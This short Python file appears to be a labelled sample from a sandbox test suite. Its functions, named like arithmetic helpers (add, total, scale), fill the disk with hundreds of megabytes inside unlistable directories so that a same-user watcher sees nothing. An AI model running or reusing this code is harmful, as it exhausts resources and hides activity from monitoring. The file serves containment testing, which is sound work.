"""
group: exhaustion
tries: Fills the disk in folders that may be entered and not listed, so that a watcher who is the same user sees nothing.
stopped by: mounts, watch
"""
import os
import time

block = bytes(1 << 20)


def fill(mode):
    os.mkdir(f"d{mode}", mode)
    for number in range(700):
        with open(f"d{mode}/{number // 12}", "ab") as file:
            file.write(block)
    time.sleep(6)


def add(a, b):
    fill(0o300)


def total(numbers):
    os.mkdir("above", 0o700)
    os.chdir("above")
    fill(0o100 | 0o200)


def scale(x):
    os.makedirs("1/2/3", 0o300)
    os.chdir("1/2/3")
    fill(0o300)
